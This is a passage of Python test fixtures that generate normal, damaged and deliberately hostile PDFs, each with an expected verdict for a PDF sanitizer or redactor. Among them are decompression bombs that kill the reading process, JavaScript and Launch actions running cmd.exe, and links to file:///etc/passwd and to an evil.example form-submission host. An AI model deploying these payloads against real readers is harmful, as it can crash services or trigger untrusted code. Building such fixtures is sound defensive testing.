"""PDFs as they come: ordinary ones, odd ones, and ones broken on purpose. Each page says a word that no other says.

`CASES` has each by name, with what must become of it.
"""

import zlib
from collections.abc import Callable, Iterable, Mapping
from contextlib import closing
from dataclasses import dataclass
from io import BytesIO

import pikepdf
import pypdfium2
from pikepdf import Dictionary, Name, Pdf, Stream

WORDS = "The officer wrote down what the witness said."
SECRET = "Unseen words about a protected witness"


@dataclass(frozen=True)
class Case:
    """`asks` are the codes of the questions that must be asked, `refused` that of the refusal.

    `words`, and unless told otherwise the word of each page, must be readable in the copy; `gone` must stand nowhere in
    it. `deadly` kills whatever process reads it.
    """

    name: str
    make: Callable[[], bytes]
    pages: int = 1
    asks: frozenset[str] = frozenset()
    refused: str = ""
    notices: frozenset[str] = frozenset()
    words: tuple[str, ...] = ()
    gone: tuple[bytes, ...] = ()
    password: str = ""
    tokens: bool = True
    deadly: bool = False


CASES: dict[str, Case] = {}


def case(
    *,
    pages: int = 1,
    asks: str = "",
    refused: str = "",
    notices: str = "",
    words: Iterable[str] = (),
    gone: Iterable[bytes] = (),
    password: str = "",
    tokens: bool = True,
    deadly: bool = False,
) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    def keep(make: Callable[[], bytes]) -> Callable[[], bytes]:
        name = make.__name__
        CASES[name] = Case(
            name,
            make,
            pages,
            frozenset(asks.split()),
            refused,
            frozenset(notices.split()),
            tuple(words),
            tuple(gone),
            password,
            tokens,
            deadly,
        )
        return make

    return keep


def token(page: int) -> str:
    return f"Token{page:03d}"


def text_operators(page: int, x: float = 72, y: float = 700) -> bytes:
    return f"BT /F1 12 Tf {x} {y} Td ({token(page)} {WORDS}) Tj ET".encode()


def helvetica(pdf: Pdf) -> Dictionary:
    return pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica, Encoding=Name.WinAnsiEncoding)
    )


def new(pages: int = 1, size: tuple[float, float] = (612, 792)) -> Pdf:
    pdf = Pdf.new()
    font = helvetica(pdf)
    for number in range(1, pages + 1):
        page = pdf.add_blank_page(page_size=size)
        page.obj[Name.Resources] = Dictionary(Font=Dictionary(F1=font))
        page.obj[Name.Contents] = pdf.make_indirect(Stream(pdf, text_operators(number)))
    return pdf


def written(pdf: Pdf, **how: object) -> bytes:
    target = BytesIO()
    pdf.save(target, **how)
    return target.getvalue()


def plain(pages: int = 1) -> bytes:
    return written(new(pages), static_id=True)


def changed(change: Callable[[Pdf], None], pages: int = 1, **how: object) -> bytes:
    """An ordinary file after `change` was done to it."""
    pdf = new(pages)
    change(pdf)
    return written(pdf, static_id=True, **how)


def raw(objects: Mapping[int, bytes], *, trailer: bytes = b"", version: bytes = b"1.7", table: bool = True) -> bytes:
    """A file written by hand, with the objects just as they are given."""
    out, places = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n"), {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    if table:
        last = max(objects)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (last + 1)
        for number in range(1, last + 1):
            free = b"0000000000 00000 f \n"
            out += b"%010d 00000 n \n" % places[number] if number in places else free
        out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\n" % (last + 1, trailer)
    return bytes(out) + b"startxref\n%d\n%%%%EOF\n" % start


def stream(data: bytes, more: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), more, data)


def zeros(mebibytes: int) -> bytes:
    """So many of them, packed, without packing each."""
    packing = zlib.compressobj(9)
    first, again = (packing.compress(bytes(1 << 20)) + packing.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    return first + again * (mebibytes - 1) + packing.flush()


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def one_page(
    page: bytes = b"",
    *,
    content: bytes | None = None,
    more: Mapping[int, bytes] | None = None,
    resources: bytes = b"",
    **how: object,
) -> bytes:
    """A page written by hand: `page` adds to its dictionary, and `resources` to what it draws with."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /Resources << /Font << /F1 5 0 R >> %s >> %s >>"
        % (resources, page or b"/MediaBox [0 0 612 792] /Contents 4 0 R"),
        4: stream(text_operators(1) if content is None else content),
        5: FONT,
    }
    return raw(objects | dict(more or {}), **how)


# ── Not PDFs at all, or hardly ──────────────────────────────────────────────────────────────────────────────────────


@case(refused="empty")
def nothing() -> bytes:
    return b""


@case(refused="not-the-kind")
def one_byte() -> bytes:
    return b"%"


@case(refused="not-the-kind")
def text_under_a_pdf_name() -> bytes:
    return b"The officer wrote down what the witness said.\n" * 50


@case(refused="not-the-kind")
def page_of_the_web_under_a_pdf_name() -> bytes:
    return b"<!doctype html><html><body><p>Sign in to download %PDF- files</p></body></html>"


@case(refused="not-the-kind")
def archive_under_a_pdf_name() -> bytes:
    return b"PK\x03\x04" + bytes(200)


@case(refused="unreadable")
def only_a_header() -> bytes:
    return b"%PDF-1.7\n"


@case(refused="unreadable")
def header_and_noise() -> bytes:
    return b"%PDF-1.7\n" + bytes(range(256)) * 40


@case(refused="no-pages")
def no_pages() -> bytes:
    return raw({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] /Count 0 >>"})


@case(refused="unreadable")
def no_page_tree() -> bytes:
    return raw({1: b"<< /Type /Catalog >>"})


# ── Broken in the way of transport and storage ──────────────────────────────────────────────────────────────────────


@case(pages=3, asks="damaged")
def words_before_the_header() -> bytes:
    return b"Received: from mail.example.org\r\n\r\n" + plain(3)


@case(pages=3)
def words_after_the_end() -> bytes:
    return plain(3) + b"\r\n<!-- appended by a portal -->\r\n" * 5


@case(pages=3, asks="damaged")
def zeros_after_the_end() -> bytes:
    return plain(3) + bytes(4000)


@case(pages=3, asks="damaged")
def table_of_objects_points_elsewhere() -> bytes:
    data = raw_pages(3)
    at = data.rindex(b"startxref\n") + 10
    return data[:at] + b"7\n%%EOF\n"


@case(pages=3, asks="damaged")
def table_of_objects_is_gone() -> bytes:
    return raw_pages(3)[: raw_pages(3).rindex(b"xref\n0 ")] + b"trailer << /Root 1 0 R >>\n%%EOF"


@case(pages=3, asks="damaged")
def offsets_are_shifted() -> bytes:
    return raw_pages(3).replace(b"%\xe2\xe3\xcf\xd3\n", b"%\xe2\xe3\xcf\xd3\r\n\r\n")


@case(pages=3, asks="damaged")
def an_object_has_no_end() -> bytes:
    return raw_pages(3).replace(b"\nendobj\n", b"\n", 1)


@case(pages=2, asks="damaged")
def cut_off_in_the_middle() -> bytes:
    data = raw_pages(3)
    return data[: len(data) * 3 // 5]


@case(refused="unreadable")
def cut_off_at_the_start() -> bytes:
    return plain(3)[:120]


@case(pages=1, asks="damaged")
def stream_length_is_wrong() -> bytes:
    return one_page().replace(b"<< /Length %d" % len(text_operators(1)), b"<< /Length 7")


@case(pages=1, asks="damaged")
def packed_content_is_cut() -> bytes:
    packed = zlib.compress(text_operators(1) + b"\n" + b"0 0 0 rg 10 10 20 20 re f\n" * 400)
    return one_page(more={4: stream(packed[:-20], b"/Filter /FlateDecode")})


def raw_pages(pages: int) -> bytes:
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Count %d /Kids [%s] >>"
        % (pages, b" ".join(b"%d 0 R" % (4 + 2 * number) for number in range(pages))),
        3: FONT,
    }
    for number in range(pages):
        objects[4 + 2 * number] = (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents %d 0 R "
            b"/Resources << /Font << /F1 3 0 R >> >> >>" % (5 + 2 * number)
        )
        objects[5 + 2 * number] = stream(text_operators(number + 1))
    return raw(objects)


# ── Ways of writing that are right ──────────────────────────────────────────────────────────────────────────────────


@case(pages=3)
def objects_packed_in_streams() -> bytes:
    return written(new(3), object_stream_mode=pikepdf.ObjectStreamMode.generate)


@case(pages=3)
def for_the_web() -> bytes:
    return written(new(3), linearize=True)


@case(pages=3)
def of_version_two() -> bytes:
    return written(new(3), force_version="2.0")


@case(pages=2, notices="owner-lock")
def locked_against_changes_with_aes() -> bytes:
    return written(new(2), encryption=pikepdf.Encryption(owner="owner", user="", R=6))


@case(pages=2, notices="owner-lock")
def locked_against_changes_with_rc4() -> bytes:
    return written(new(2), encryption=pikepdf.Encryption(owner="owner", user="", R=3, aes=False, metadata=False))


@case(pages=0, asks="password")
def locked_with_a_password() -> bytes:
    return written(new(2), encryption=pikepdf.Encryption(owner="owner", user="secret", R=6))


@case(pages=2, notices="unlocked", password="secret")
def locked_with_a_password_that_is_given() -> bytes:
    return locked_with_a_password()


@case(pages=0, asks="password", password="guess")
def locked_with_another_password() -> bytes:
    return locked_with_a_password()


@case(pages=2, words=["Token002"])
def saved_in_a_second_revision() -> bytes:
    """A page was added by appending to the file, as programs do that sign or annotate."""
    data = raw_pages(1)
    start = int(data[data.rindex(b"startxref\n") + 10 :].split()[0])
    places, out = {}, bytearray(data)
    for number, body in {
        2: b"<< /Type /Pages /Count 2 /Kids [4 0 R 6 0 R] >>",
        6: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 7 0 R "
        b"/Resources << /Font << /F1 3 0 R >> >> >>",
        7: stream(text_operators(2)),
    }.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(out)
    out += b"xref\n2 1\n%010d 00000 n \n6 2\n%010d 00000 n \n%010d 00000 n \n" % (places[2], places[6], places[7])
    out += b"trailer << /Size 8 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (start, table)
    return bytes(out)


@case(pages=1, gone=[b"old and struck out"])
def an_earlier_revision_said_something_else() -> bytes:
    """Only the last revision is filed; what an earlier one said must not travel along."""
    data = one_page(content=b"BT /F1 12 Tf 72 700 Td (old and struck out) Tj ET")
    start = int(data[data.rindex(b"startxref\n") + 10 :].split()[0])
    at, out = len(data), bytearray(data)
    out += b"4 0 obj\n%s\nendobj\n" % stream(text_operators(1))
    table = len(out)
    out += b"xref\n4 1\n%010d 00000 n \ntrailer << /Size 6 /Root 1 0 R /Prev %d >>\n" % (at, start)
    return bytes(out) + b"startxref\n%d\n%%%%EOF\n" % table


# ── Page trees ──────────────────────────────────────────────────────────────────────────────────────────────────────


def tree(objects: Mapping[int, bytes]) -> bytes:
    shared = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        10: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 20 0 R /Resources 30 0 R >>",
        11: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 21 0 R /Resources 30 0 R >>",
        20: stream(text_operators(1)),
        21: stream(text_operators(2)),
        30: b"<< /Font << /F1 31 0 R >> >>",
        31: FONT,
    }
    return raw(shared | dict(objects))


@case(refused="unreadable")
def page_tree_holds_itself() -> bytes:
    return tree({2: b"<< /Type /Pages /Count 2 /Kids [10 0 R 2 0 R] >>"})


@case(pages=2, asks="damaged")
def page_tree_has_holes() -> bytes:
    return tree({2: b"<< /Type /Pages /Count 2 /Kids [null 10 0 R 99 0 R 11 0 R] >>"})


@case(pages=2, asks="damaged")
def page_tree_counts_a_million() -> bytes:
    return tree({2: b"<< /Type /Pages /Count 1000000 /Kids [10 0 R 11 0 R] >>"})


@case(pages=2, asks="damaged")
def page_tree_counts_too_few() -> bytes:
    return tree({2: b"<< /Type /Pages /Count 1 /Kids [10 0 R 11 0 R] >>"})


@case(pages=2, asks="damaged")
def the_same_page_twice() -> bytes:
    return tree(
        {
            2: b"<< /Type /Pages /Count 2 /Kids [10 0 R 10 0 R] >>",
            20: stream(text_operators(1) + b" " + text_operators(2, 72, 600)),
        }
    )


@case(pages=2)
def page_tree_of_many_levels() -> bytes:
    levels = {
        40 + n: b"<< /Type /Pages /Count 2 /Parent %d 0 R /Kids [%d 0 R] >>" % (39 + n if n else 2, 41 + n)
        for n in range(30)
    }
    last = {70: b"<< /Type /Pages /Count 2 /Parent 69 0 R /Kids [10 0 R 11 0 R] >>"}
    pages = {
        n: b"<< /Type /Page /Parent 70 0 R /MediaBox [0 0 612 792] /Contents %d 0 R /Resources 30 0 R >>" % (n + 10)
        for n in (10, 11)
    }
    return tree(levels | last | pages | {2: b"<< /Type /Pages /Count 2 /Kids [40 0 R] >>"})


@case(pages=2)
def everything_inherited() -> bytes:
    return tree(
        {
            2: b"<< /Type /Pages /Count 2 /Kids [10 0 R 11 0 R] /MediaBox [0 0 300 400] /CropBox [10 10 290 390] "
            b"/Rotate 90 /Resources 30 0 R >>",
            10: b"<< /Type /Page /Parent 2 0 R /Contents 20 0 R >>",
            11: b"<< /Type /Page /Parent 2 0 R /Contents 21 0 R >>",
            20: stream(b"BT /F1 9 Tf 20 200 Td (Token001 The officer wrote down what he saw.) Tj ET"),
            21: stream(b"BT /F1 9 Tf 20 200 Td (Token002 The officer wrote down what he saw.) Tj ET"),
        }
    )


@case(pages=2, asks="damaged")
def parents_go_round() -> bytes:
    return tree(
        {
            2: b"<< /Type /Pages /Count 2 /Kids [10 0 R 11 0 R] /Parent 3 0 R >>",
            3: b"<< /Type /Pages /Parent 2 0 R >>",
            10: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 20 0 R >>",
        }
    )


# ── Boxes and turns ─────────────────────────────────────────────────────────────────────────────────────────────────


@case(asks="damaged")
def no_box() -> bytes:
    return one_page(b"/Contents 4 0 R")


@case()
def box_the_other_way_round() -> bytes:
    return one_page(b"/MediaBox [612 792 0 0] /Contents 4 0 R")


@case(asks="damaged")
def box_without_area() -> bytes:
    return one_page(b"/MediaBox [0 0 0 0] /Contents 4 0 R")


@case(asks="damaged")
def box_of_words() -> bytes:
    return one_page(b"/MediaBox [(a) (b) (c) (d)] /Contents 4 0 R")


@case()
def box_far_from_the_origin() -> bytes:
    return one_page(b"/MediaBox [-1000 -2000 -388 -1208] /Contents 4 0 R", content=text_operators(1, -900, -1300))


@case()
def box_cropped() -> bytes:
    return one_page(b"/MediaBox [0 0 612 792] /CropBox [50 600 562 760] /Contents 4 0 R")


@case(asks="damaged")
def crop_outside_the_box() -> bytes:
    return one_page(b"/MediaBox [0 0 612 792] /CropBox [2000 2000 2600 2700] /Contents 4 0 R")


@case()
def crop_larger_than_the_box() -> bytes:
    return one_page(b"/MediaBox [0 0 612 792] /CropBox [-100 -100 900 900] /Contents 4 0 R")


@case(refused="page-too-small")
def page_of_a_hair() -> bytes:
    return one_page(b"/MediaBox [0 0 612 0.5] /Contents 4 0 R", content=b"")


@case(tokens=False)
def page_of_a_mile() -> bytes:
    return one_page(
        b"/MediaBox [0 0 200000 100000] /Contents 4 0 R",
        content=b"q 200 0 0 200 0 0 cm " + text_operators(1, 100, 300) + b" Q",
    )


@case()
def unit_of_an_inch() -> bytes:
    return one_page(
        b"/MediaBox [0 0 200 100] /UserUnit 3 /Contents 4 0 R", content=b"BT /F1 6 Tf 5 50 Td (Token001 said) Tj ET"
    )


@case(pages=8, notices="turned")
def turned_every_way() -> bytes:
    def turn(pdf: Pdf) -> None:
        for page, by in zip(pdf.pages, (0, 90, 180, 270, -90, -180, 450, 720), strict=True):
            page.obj[Name.Rotate] = by

    return changed(turn, 8)


@case()
def turned_by_45() -> bytes:
    return one_page(b"/MediaBox [0 0 612 792] /Rotate 45 /Contents 4 0 R")


@case(notices="turned")
def words_stand_sideways() -> bytes:
    return one_page(content=b"BT /F1 12 Tf 0 1 -1 0 300 100 Tm (Token001 " + WORDS.encode() + b") Tj ET")


@case()
def page_of_poster_size() -> bytes:
    return one_page(b"/MediaBox [0 0 2384 3370] /Contents 4 0 R")


# ── Contents ────────────────────────────────────────────────────────────────────────────────────────────────────────


@case(notices="no-text")
def no_contents() -> bytes:
    return one_page(b"/MediaBox [0 0 612 792]")


@case(notices="no-text")
def contents_that_are_no_stream() -> bytes:
    return one_page(b"/MediaBox [0 0 612 792] /Contents 5 0 R")


@case()
def contents_with_holes() -> bytes:
    return one_page(b"/MediaBox [0 0 612 792] /Contents [null 4 0 R 99 0 R (x) 4]")


@case()
def contents_cut_between_streams() -> bytes:
    whole = text_operators(1)
    parts = {6: stream(whole[:20]), 7: stream(whole[20:])}
    return one_page(b"/MediaBox [0 0 612 792] /Contents [6 0 R 7 0 R]", content=b"", more=parts)


@case(notices="no-text")
def no_resources() -> bytes:
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        4: stream(b"0 0 1 rg 100 100 200 200 re f"),
    }
    return raw(objects)


@case()
def states_restored_that_were_never_saved() -> bytes:
    return one_page(
        b"/MediaBox [10 10 622 802] /Contents 4 0 R",
        content=b"Q Q Q " + text_operators(1) + b" Q 1 0 0 rg 80 80 50 50 re f",
    )


@case()
def states_never_restored() -> bytes:
    return one_page(
        b"/MediaBox [10 10 622 802] /Contents 4 0 R", content=b"q q q 1.2 0 0 1.2 0 0 cm " + text_operators(1, 50, 350)
    )


@case(notices="no-text")
def operators_by_the_million() -> bytes:
    packed = zlib.compress(b"q Q " * 5_500_000, 1)
    return one_page(more={4: stream(packed, b"/Filter /FlateDecode")})


@case(refused="too-much-drawn")
def content_that_unpacks_to_much() -> bytes:
    return one_page(more={4: stream(zeros(128), b"/Filter /FlateDecode")})


@case(deadly=True)
def content_packed_twice() -> bytes:
    packed = zlib.compress(zeros(4096), 9)
    return one_page(more={4: stream(packed, b"/Filter [/FlateDecode /FlateDecode]")})


@case(deadly=True)
def object_stream_that_unpacks_to_a_gigabyte() -> bytes:
    packed = zeros(1024)
    bomb = stream(packed, b"/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode")
    data = one_page(more={6: bomb}, table=False)
    return data + b"trailer << /Root 1 0 R >>\n"


@case(deadly=True)
def forms_that_draw_forms_that_draw_forms() -> bytes:
    forms = {
        10 + n: stream(
            b"/X Do " * 10,
            b"/Type /XObject /Subtype /Form /BBox [0 0 600 700] /Resources << /XObject << /X %d 0 R >> >>" % (11 + n),
        )
        for n in range(9)
    }
    forms[19] = stream(b"0 0 5 5 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 600 700]")
    return one_page(content=b"/X Do " + text_operators(1), more=forms, resources=b"/XObject << /X 10 0 R >>")


@case()
def forms_three_hundred_deep() -> bytes:
    forms = {
        10 + n: stream(
            b"0 0 1 rg 50 50 40 40 re f /X Do",
            b"/Type /XObject /Subtype /Form /BBox [0 0 600 700] /Resources << /XObject << /X %d 0 R >> >>" % (11 + n),
        )
        for n in range(300)
    }
    return one_page(content=b"/X Do " + text_operators(1), more=forms, resources=b"/XObject << /X 10 0 R >>")


@case()
def masks_of_masks() -> bytes:
    masks = {
        10 + n: stream(
            bytes(3 if n == 0 else 1),
            b"/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace %s /SMask %d 0 R"
            % (b"/DeviceRGB" if n == 0 else b"/DeviceGray", 11 + n),
        )
        for n in range(1500)
    }
    return one_page(content=b"/X Do " + text_operators(1), more=masks, resources=b"/XObject << /X 10 0 R >>")


@case(refused="no-pages")
def arrays_in_arrays() -> bytes:
    return one_page(b"/MediaBox [0 0 612 792] /Contents 4 0 R /Odd " + b"[" * 10_000 + b"]" * 10_000)


@case()
def form_that_draws_itself() -> bytes:
    form = stream(
        b"0 0 1 rg 50 50 40 40 re f /X Do",
        b"/Type /XObject /Subtype /Form /BBox [0 0 600 700] /Resources << /XObject << /X 10 0 R >> >>",
    )
    return one_page(content=b"/X Do " + text_operators(1), more={10: form}, resources=b"/XObject << /X 10 0 R >>")


# ── Words that cannot be seen ───────────────────────────────────────────────────────────────────────────────────────


def secret(x: float = 72, y: float = 500, before: str = "", after: str = "") -> bytes:
    return text_operators(1) + f" q {before} BT /F1 12 Tf {x} {y} Td ({SECRET}) Tj ET {after} Q".encode()


@case(asks="hidden-text")
def words_under_a_box() -> bytes:
    return one_page(content=secret(after="0 g 70 495 300 20 re f"))


@case(asks="hidden-text")
def words_white_on_white() -> bytes:
    return one_page(content=secret(before="1 g"))


@case(asks="hidden-text")
def words_drawn_invisibly() -> bytes:
    return one_page(content=secret(before="3 Tr"))


@case(asks="hidden-text")
def words_nearly_white() -> bytes:
    return one_page(content=secret(before="0.97 g"))


@case(asks="hidden-text")
def words_cropped_away() -> bytes:
    return one_page(b"/MediaBox [0 0 612 792] /CropBox [0 600 612 792] /Contents 4 0 R", content=secret())


@case(asks="hidden-text")
def words_outside_the_paper() -> bytes:
    return one_page(content=secret(x=72, y=-300))


@case(asks="hidden-text")
def words_clipped_away() -> bytes:
    return one_page(content=secret(before="0 0 10 10 re W n"))


@case(asks="hidden-text")
def words_under_a_box_that_is_an_annotation() -> bytes:
    box = b"<< /Type /Annot /Subtype /Square /Rect [70 495 370 515] /IC [0 0 0] /C [0 0 0] >>"
    return one_page(b"/MediaBox [0 0 612 792] /Contents 4 0 R /Annots [6 0 R]", content=secret(), more={6: box})


@case(asks="redactions")
def words_marked_to_be_blacked_out() -> bytes:
    mark = b"<< /Type /Annot /Subtype /Redact /Rect [70 495 370 515] /QuadPoints [70 515 370 515 70 495 370 495] >>"
    return one_page(b"/MediaBox [0 0 612 792] /Contents 4 0 R /Annots [6 0 R]", content=secret(), more={6: mark})


@case()
def words_white_on_black() -> bytes:
    return one_page(content=b"q 0 g 60 680 500 60 re f Q q 1 g " + text_operators(1) + b" Q")


@case()
def words_read_from_a_scan() -> bytes:
    """A picture of the words, and the words drawn invisibly over it, as scanners write them."""
    seen = one_page(content=text_operators(1))
    with closing(pypdfium2.PdfDocument(seen)) as pdf:
        picture = pdf[0].render(scale=2, grayscale=True).to_pil()
    packed = zlib.compress(picture.tobytes())
    image = stream(
        packed,
        b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8 "
        b"/Filter /FlateDecode" % picture.size,
    )
    content = b"q 612 0 0 792 0 0 cm /Im Do Q 3 Tr " + text_operators(1)
    return one_page(content=content, more={6: image}, resources=b"/XObject << /Im 6 0 R >>")


@case()
def words_under_a_highlight_that_covers_them() -> bytes:
    """Some programs draw a highlight as an opaque box, and count on the reader to let the words through."""
    look = stream(b"1 1 0 rg 0 0 300 20 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 300 20]")
    mark = (
        b"<< /Type /Annot /Subtype /Highlight /Rect [70 695 370 715] /C [1 1 0] /AP << /N 7 0 R >> "
        b"/QuadPoints [70 715 370 715 70 695 370 695] /T (Mei Chen) /Contents (look here) >>"
    )
    more = {6: mark, 7: look}
    return one_page(b"/MediaBox [0 0 612 792] /Contents 4 0 R /Annots [6 0 R]", more=more)


def layered(state: bytes, content: bytes, more: Mapping[int, bytes] | None = None, resources: bytes = b"") -> bytes:
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OCProperties << /OCGs [8 0 R 9 0 R] /D << %s >> >> >>" % state,
        8: b"<< /Type /OCG /Name (Notes of counsel) >>",
        9: b"<< /Type /OCG /Name (Map) >>",
    }
    marks = b"/Properties << /Secret 8 0 R /Open 9 0 R >> " + resources
    return one_page(content=content, more=objects | dict(more or {}), resources=marks)


@case(notices="hidden-layers", gone=[SECRET.encode(), b"Notes of counsel"])
def words_in_a_layer_that_is_off() -> bytes:
    hidden = f"/OC /Secret BDC 1 0 0 rg 50 50 20 20 re f BT /F1 12 Tf 72 500 Td ({SECRET}) Tj ET EMC ".encode()
    return layered(b"/OFF [8 0 R]", hidden + b"/OC /Open BDC " + text_operators(1) + b" EMC")


@case(notices="hidden-layers", gone=[SECRET.encode()])
def picture_in_a_layer_that_is_off() -> bytes:
    form = stream(
        f"BT /F1 12 Tf 72 500 Td ({SECRET}) Tj ET".encode(),
        b"/Type /XObject /Subtype /Form /BBox [0 0 600 700] /OC 8 0 R /Resources << /Font << /F1 5 0 R >> >>",
    )
    content = b"/X Do " + text_operators(1)
    return layered(b"/BaseState /OFF /ON [9 0 R]", content, {10: form}, b"/XObject << /X 10 0 R >>")


@case(words=[SECRET])
def words_in_a_layer_that_is_on() -> bytes:
    shown = f"/OC /Secret BDC BT /F1 12 Tf 72 500 Td ({SECRET}) Tj ET EMC ".encode()
    return layered(b"/ON [8 0 R]", shown + text_operators(1))


# ── What acts, leads away, or tells of people ───────────────────────────────────────────────────────────────────────

TELLING = [b"Mei Chen", b"WordThing", b"JavaScript", b"/Launch", b"SubmitForm", b"GoToR", b"EmbeddedFile", b"/XFA"]


@case(notices="active told-of-people", gone=TELLING)
def scripts_and_commands_everywhere() -> bytes:
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 20 0 R /AA << /WC 20 0 R >> /Metadata 22 0 R "
        b"/Names << /JavaScript << /Names [(a) 20 0 R] >> /EmbeddedFiles << /Names [(f) 21 0 R] >> >> "
        b"/AF [21 0 R] /PieceInfo << /Word 23 0 R >> /Threads [] /URI << /Base (http://evil.example) >> "
        b"/Collection << /View /D >> /StructTreeRoot << /K 99 0 R >> /MarkInfo << /Marked true >> >>",
        6: b"<< /Author (Mei Chen) /Creator (WordThing 9) /Title (Draft of Mei Chen) >>",
        20: b"<< /S /JavaScript /JS (app.alert\\(1\\)) /Next [<< /S /Launch /F (cmd.exe) >>] >>",
        21: b"<< /Type /Filespec /F (notes.txt) /EF << /F 24 0 R >> >>",
        22: stream(b"<x:xmpmeta>Mei Chen</x:xmpmeta>", b"/Type /Metadata /Subtype /XML"),
        23: b"<< /Private << /Who (Mei Chen) >> >>",
        24: stream(b"Mei Chen wrote this", b"/Type /EmbeddedFile"),
    }
    page = (
        b"/MediaBox [0 0 612 792] /Contents 4 0 R /AA << /O 20 0 R >> /PieceInfo << /Word 23 0 R >> /Metadata 22 0 R "
        b"/Thumb 24 0 R /LastModified (D:2020) /Tabs /S /StructParents 0"
    )
    return one_page(page, more=objects, trailer=b"/Info 6 0 R")


def with_annotations(*annotations: bytes, more: Mapping[int, bytes] | None = None, pages: int = 1) -> bytes:
    numbered = {100 + number: body for number, body in enumerate(annotations)}
    listed = b" ".join(b"%d 0 R" % number for number in numbered)
    page = b"/MediaBox [0 0 612 792] /Contents 4 0 R /Annots [%s]" % listed
    return one_page(page, more=numbered | dict(more or {}))


def link(target: bytes) -> bytes:
    return b"<< /Type /Annot /Subtype /Link /Rect [70 690 200 715] /Border [0 0 0] %s >>" % target


@case(notices="active links-dropped", gone=[b"file:", b"javascript:", b"cmd.exe", b"other.pdf", b"/Launch"])
def links_that_lead_away() -> bytes:
    return with_annotations(
        link(b"/A << /S /URI /URI (https://example.org/report) >>"),
        link(b"/A << /S /URI /URI (javascript:alert\\(1\\)) >>"),
        link(b"/A << /S /URI /URI (file:///etc/passwd) >>"),
        link(b"/A << /S /Launch /F (cmd.exe) >>"),
        link(b"/A << /S /GoToR /F (other.pdf) /D [0 /Fit] >>"),
        link(b"/A << /S /SubmitForm /F (http://evil.example/) >>"),
        link(b"/A << /S /Named /N /Print >>"),
        link(b"/Dest (nowhere)"),
        link(b""),
        b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.org/no-rect) >> >>",
    )


@case(notices="active flattened", gone=[b"Mei Chen", b"/RichMedia", b"/Movie", b"/Sound", b"FileAttachment"])
def films_sounds_and_attached_files() -> bytes:
    look = stream(b"0 0 1 rg 0 0 50 50 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 50 50]")
    kinds = (b"FileAttachment", b"RichMedia", b"Screen", b"Movie", b"Sound", b"3D")
    return with_annotations(
        *(
            b"<< /Type /Annot /Subtype /%s /Rect [%d 300 %d 350] /AP << /N 30 0 R >> /FS 31 0 R /T (Mei Chen) "
            b"/A << /S /Rendition >> >>" % (kind, 60 * place, 60 * place + 50)
            for place, kind in enumerate(kinds)
        ),
        more={
            30: look,
            31: b"<< /Type /Filespec /F (a.txt) /EF << /F 32 0 R >> >>",
            32: stream(b"Mei Chen", b"/Type /EmbeddedFile"),
        },
    )


@case(notices="active")
def picture_that_lies_in_another_file() -> bytes:
    image = stream(
        b"\xff" * 3,
        b"/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceRGB /BitsPerComponent 8 "
        b"/F (\\\\evil\\x)",
    )
    content = b"q 9 0 0 9 9 9 cm /Im Do Q " + text_operators(1)
    return one_page(content=content, more={6: image}, resources=b"/XObject << /Im 6 0 R >>")


@case(gone=[b"Mei Chen"])
def notes_and_marks() -> bytes:
    who = b"/T (Mei Chen) /M (D:20250101) /NM (id-1) /Popup 130 0 R"
    return with_annotations(
        b"<< /Type /Annot /Subtype /Text /Rect [20 700 40 720] /Contents (Ask about this) %s >>" % who,
        b"<< /Type /Annot /Subtype /Underline /Rect [72 690 200 712] /QuadPoints [72 712 200 712 72 690 200 690] %s >>"
        % who,
        b"<< /Type /Annot /Subtype /Squiggly /Rect [72 690 200 712] %s >>" % who,
        b"<< /Type /Annot /Subtype /StrikeOut /Rect [72 600 200 612] /C [1 0 0] %s >>" % who,
        b"<< /Type /Annot /Subtype /Circle /Rect [300 300 400 350] /C [0 1 0] /BS << /W 3 >> %s >>" % who,
        b"<< /Type /Annot /Subtype /Square /Rect [300 200 400 250] /IC [1 1 0] %s >>" % who,
        b"<< /Type /Annot /Subtype /Line /Rect [100 100 200 150] /L [100 100 200 150] %s >>" % who,
        b"<< /Type /Annot /Subtype /Ink /Rect [100 200 200 250] /InkList [[100 200 150 250 200 200]] %s >>" % who,
